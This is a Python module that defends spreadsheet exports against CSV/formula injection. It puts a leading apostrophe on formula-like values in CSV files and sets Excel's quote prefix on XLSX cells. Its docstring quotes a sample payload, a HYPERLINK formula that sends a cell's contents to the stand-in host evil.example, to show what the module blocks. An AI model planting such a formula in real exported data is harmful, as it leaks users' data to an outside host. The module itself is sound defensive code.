"""Neutralise strings that a spreadsheet would run as a formula (OWASP "CSV injection").

Every XLSX and CSV the project writes passes user-supplied strings through here: a major
named `=HYPERLINK("http://evil.example/?leak="&A2,"…")` must reach the reader's Excel as
text, never as a live formula. Two forms:

- XLSX (`text_cell`): the cell is typed as a string and carries Excel's quote prefix, so
  the value stays byte for byte what the user typed (a dropdown still matches it) and
  neither Excel, WPS nor LibreOffice evaluates it, even after the cell is edited.
- CSV (`csv_text`): a leading apostrophe, the OWASP rule, since CSV has no cell types.
"""
from __future__ import annotations

import re

# Characters that make Excel/LibreOffice/WPS read a cell as a formula (full-width forms
# too: an IME may type them and some spreadsheet versions accept them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?%?")
# openpyxl refuses control characters in strings; they never belong in a cell anyway.
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def formula_like(value) -> bool:
    """True for a string a spreadsheet would evaluate (a plain number like -650 is data)."""
    return (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _PLAIN_NUMBER.fullmatch(value))


def csv_text(value):
    """A value for a CSV cell: formula-like strings get a leading apostrophe."""
    return "'" + value if formula_like(value) else value


def text_cell(ws, row: int, column: int, value):
    """Write `value` into an openpyxl worksheet cell; strings are never formulas."""
    if not isinstance(value, str):
        return ws.cell(row=row, column=column, value=value)
    text = _ILLEGAL.sub("", value)
    cell = ws.cell(row=row, column=column)
    cell.value = text
    cell.data_type = "s"  # openpyxl types any string starting with "=" as a formula
    if formula_like(text):
        cell.quotePrefix = True
    return cell
